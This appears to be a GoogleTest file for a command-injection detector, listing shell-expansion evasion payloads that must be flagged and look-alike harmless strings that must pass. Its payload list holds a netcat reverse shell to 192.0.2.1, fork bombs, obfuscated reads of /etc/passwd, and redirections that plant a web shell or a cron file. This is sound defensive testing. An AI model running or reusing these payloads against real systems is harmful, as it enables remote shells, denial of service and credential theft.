// Command injection hidden by shell expansion: variables assigned in the value and expanded
// later, special parameters spliced into words, empty process substitutions, ANSI-C quoting,
// fork bombs, SQLite shell dot-commands, values that are only a tilde or history expansion or
// an output redirection, command names split by quotes; and benign text with the same
// characters.
#include <gtest/gtest.h>

#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::InspectQueryValue;

class ShellExpansionEvasion : public ::testing::TestWithParam<const char*> {};
TEST_P(ShellExpansionEvasion, IsBlockedAsCommandInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, ShellExpansionEvasion,
    ::testing::Values(
        // Assigned, then expanded.
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "x=nc;$x -e /bin/sh 192.0.2.1 4444",
        "p1=who;p2=ami;${p1}${p2}", "s=\\ ;c=id;$c$s",
        // Special parameters spliced into words, empty process substitutions, $'...'.
        "x;c$?at /et$!c/pas$$swd", "una$_me -a|x", "pi>()ng 127.0.0.1", "{,$'whoami',}",
        // Fork bombs under any name.
        ":(){ :|:& };:", "f(){ f & f; };f", "bomb() { bomb | bomb & }; bomb",
        // SQLite shell dot-commands after a separator.
        "1;.shell whoami", "x;.system id",
        // A value that is only a directory-stack tilde or history designators.
        "~+", "~-", "~+5", " ~-12 ", "!-1", "!-1!-2", "!!!-3", "!$!-2",
        // A command name split by quotes that only a shell joins, alone or with arguments.
        "w'h'o'am'i", "c'a't /e\"t\"c/passwd", "wh\"\"oami", "u'n'a'm'e -a",
        // ... or by backslashes.
        "w\\h\\o\\a\\m\\i", "c\\a\\t /e\\t\\c/pa\\ss\\wd", "u\\n\\a\\m\\e -a",
        // ... once in the name and again in its arguments.
        "ca\\t /et\\c/pas\\swd",
        // A value that is only an output redirection into a system location.
        ">/tmp/curl", ">> /var/www/html/shell.php", "2>/dev/tcp/192.0.2.1/4444",
        "&>/etc/cron.d/x"));

class ExpansionLikeBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(ExpansionLikeBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, ExpansionLikeBenign,
    ::testing::Values(
        // Templates and code with assignments and variables.
        "price=5; total=$price", "name=Ana; greeting=Hello $name", "a=1&b=2&c=$a",
        // Money and questions, JS functions, file names with dots.
        "costs $5?! really", "US$_20 bill", "render() { return a | b; }", "function f() { f(); }",
        "see file .shell_history? no", "x;.sh is a file extension", "Привет $друг; как дела?",
        // Contractions, possessives and quoted words.
        "p's and q's", "rock'n'roll", "it's John's cat", "l's and r's", "O'Brien's", "\"cat\"",
        "'ls'", "c'est la vie", "Qu'est-ce que c'est", "don't stop",
        // Backslashes in Windows paths and regular-expression classes.
        "C:\\Users\\ann\\doc.txt", "\\w+\\s\\w+", "i\\d", "\\textbf{x}", "ca\\t file",
        "don't won't", "l'id de l'utilisateur",
        // Punctuation, quotes and arithmetic near the probe shapes.
        "~", "~-~", "~+~", "~+a", "~-1234", "!!", "!!!", "wow!!", "!-1 is not one", "!1", "-1!",
        "x!-1", "> /r/programming is where I read it", ">/tmp/", "> /tmp/x was the file",
        ">/docs/guide"));

}  // namespace
}  // namespace shieldx::detect
